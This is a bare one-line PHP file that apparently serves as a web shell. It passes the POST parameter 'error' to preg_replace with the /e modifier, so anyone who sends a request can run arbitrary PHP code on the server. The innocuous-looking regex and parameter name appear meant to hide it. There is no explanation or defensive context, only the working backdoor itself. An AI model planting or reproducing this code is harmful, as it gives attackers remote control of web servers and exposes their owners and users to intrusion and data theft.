<?php @preg_replace("/[pageerror]/e", $_POST['error'], "saft"); ?>
